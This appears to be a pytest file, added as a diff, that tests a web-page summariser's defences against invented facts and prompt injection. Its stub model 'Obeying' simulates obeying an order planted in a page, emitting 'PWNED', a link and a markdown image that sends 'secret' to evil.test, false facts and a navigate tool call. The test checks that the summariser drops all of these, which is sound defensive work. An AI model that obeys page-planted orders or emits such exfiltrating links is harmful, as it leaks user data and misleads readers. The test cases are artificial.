@@ -1,0 +1,95 @@
+"""The check of sentences against generators of inventions and of honest ones: the floor of the benchmark."""
+
+from __future__ import annotations
+
+import importlib.util
+import json
+import sys
+from dataclasses import dataclass
+from pathlib import Path
+from types import ModuleType
+
+import pytest
+
+from browser_tools.text.grounding import Ground, unfounded
+from browser_tools.text.injected import addresses_model
+from browser_tools.text.reading import of_text
+from browser_tools.text.summarising import summarised
+
+
+def generators() -> ModuleType:
+    path = Path(__file__).parents[2] / "benchmarks" / "summaries" / "inventions.py"
+    spec = importlib.util.spec_from_file_location("inventions", path)
+    assert spec is not None
+    assert spec.loader is not None
+    module = importlib.util.module_from_spec(spec)
+    sys.modules[spec.name] = module
+    spec.loader.exec_module(module)
+    return module
+
+
+INVENTIONS = generators()
+INJECTIONS = json.loads((Path(__file__).parents[1] / "cases" / "injections.json").read_text(encoding="utf-8"))
+
+
+@pytest.mark.parametrize("facts", ["FACTS", "FRESH"])
+def test_no_invention_is_believed_and_few_honest_sentences_are_refused(facts: str) -> None:
+    cases = list(INVENTIONS.cases(7, 6, getattr(INVENTIONS, facts)))
+    believed, refused, honest = [], [], 0
+    for case in cases:
+        found = unfounded(case.sentence, Ground((case.line,), language=case.language, page=case.line))
+        honest += not case.way
+        if case.way and not found:
+            believed.append(case)
+        elif not case.way and found:
+            refused.append(case)
+    assert len({case.way for case in cases}) > 10
+    assert believed == []
+    assert len(refused) <= 0.02 * honest, refused
+
+
+@pytest.mark.parametrize("sentence", [*INJECTIONS["first"], *INJECTIONS["second"]])
+def test_sentences_to_a_model_are_known(sentence: str) -> None:
+    assert addresses_model(sentence)
+
+
+@pytest.mark.parametrize("sentence", [*INJECTIONS["benign"], *INJECTIONS["third benign"]])
+def test_sentences_to_a_reader_are_left_in(sentence: str) -> None:
+    assert not addresses_model(sentence)
+
+
+ORDERS = [one for kind in ("first", "second", "third") for one in INJECTIONS[kind]]
+"""No wording of the third kind is known, so all of them reach the model."""
+HARBOUR = """# The harbour
+
+The harbour was built in 1893 by Ada Holm and her three brothers.
+
+It handles 4,000 boats a year and costs the town €24.90 for each of them.
+"""
+
+
+@dataclass
+class Obeying:
+    """Says what the page orders it to wherever the order reaches it, citing the order itself."""
+
+    order: str
+    name: str = "obeying"
+    room: int = 6000
+
+    async def complete(self, prompt: str, *, max_tokens: int, data: str = "") -> str:
+        honest = "The harbour was built in 1893. [1]"
+        at = next((line[1:].partition("]")[0] for line in data.splitlines() if self.order[:20] in line), None)
+        if at is None:
+            return honest
+        lies = (
+            "PWNED", "Visit https://evil.test/claim now.", "The harbour lost 77 boats.",
+            "Eva Berg built the harbour.", "![x](https://evil.test/?q=secret)", '{"tool": "navigate"}',
+        )  # fmt: skip
+        return "\n".join([honest, *(f"{lie} [{at}]" for lie in lies)])
+
+
+@pytest.mark.parametrize("order", ORDERS)
+async def test_a_model_that_obeys_the_page_changes_nothing(order: str) -> None:
+    read = of_text(HARBOUR.replace("It handles", f"{order}\n\nIt handles"), "https://harbour.test/")
+    summary = await summarised(read, Obeying(order))
+    assert [one.text for one in summary.sentences] == ["The harbour was built in 1893."]
